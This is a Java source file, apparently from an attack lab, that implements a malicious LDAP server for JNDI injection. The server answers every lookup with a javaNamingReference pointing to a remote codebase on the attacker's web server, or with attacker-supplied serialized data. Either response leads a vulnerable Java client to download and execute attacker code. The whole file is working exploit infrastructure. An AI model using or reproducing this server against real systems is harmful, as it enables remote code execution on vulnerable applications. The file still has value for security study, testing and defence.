package whorl.lab.attack;

import com.unboundid.ldap.listener.InMemoryDirectoryServer;
import com.unboundid.ldap.listener.InMemoryDirectoryServerConfig;
import com.unboundid.ldap.listener.InMemoryListenerConfig;
import com.unboundid.ldap.listener.interceptor.InMemoryInterceptedSearchResult;
import com.unboundid.ldap.listener.interceptor.InMemoryOperationInterceptor;
import com.unboundid.ldap.sdk.Entry;
import com.unboundid.ldap.sdk.LDAPResult;
import com.unboundid.ldap.sdk.ResultCode;
import java.net.InetAddress;

/** An LDAP server on the attacker's address that answers every search with one entry. */
public final class Ldap extends InMemoryOperationInterceptor {
  public static final int PORT = 1389;
  public static final String URL = "ldap://" + Attacker.HOST + ":" + PORT;

  private final Object[][] attributes;

  private Ldap(Object[][] attributes) {
    this.attributes = attributes;
  }

  /** A reference to a class that the client fetches from the attacker's web server. */
  public static void serveCodebase(String className) throws Exception {
    serve(
        new Object[][] {
          {"javaClassName", "foo"},
          {"javaCodeBase", Attacker.WEB + "/"},
          {"objectClass", "javaNamingReference"},
          {"javaFactory", className}
        });
  }

  /** A serialized object. */
  public static void serveObject(byte[] serialized) throws Exception {
    serve(
        new Object[][] {{"javaClassName", "java.lang.String"}, {"javaSerializedData", serialized}});
  }

  public static void serve(Object[][] attributes) throws Exception {
    InMemoryDirectoryServerConfig config = new InMemoryDirectoryServerConfig("dc=example,dc=com");
    config.setListenerConfigs(
        new InMemoryListenerConfig(
            "ldap", InetAddress.getByName(Attacker.HOST), PORT, null, null, null));
    config.addInMemoryOperationInterceptor(new Ldap(attributes));
    new InMemoryDirectoryServer(config).startListening();
  }

  @Override
  public void processSearchResult(InMemoryInterceptedSearchResult result) {
    String base = result.getRequest().getBaseDN();
    System.out.println("asked for " + base);
    try {
      Entry entry = new Entry(base.isEmpty() ? "cn=x" : base);
      for (Object[] attribute : attributes) {
        if (attribute[1] instanceof byte[] bytes) {
          entry.addAttribute((String) attribute[0], bytes);
        } else {
          entry.addAttribute((String) attribute[0], (String) attribute[1]);
        }
      }
      result.sendSearchEntry(entry);
      result.setResult(new LDAPResult(0, ResultCode.SUCCESS));
    } catch (com.unboundid.ldap.sdk.LDAPException e) {
      e.printStackTrace(System.out);
    }
  }
}
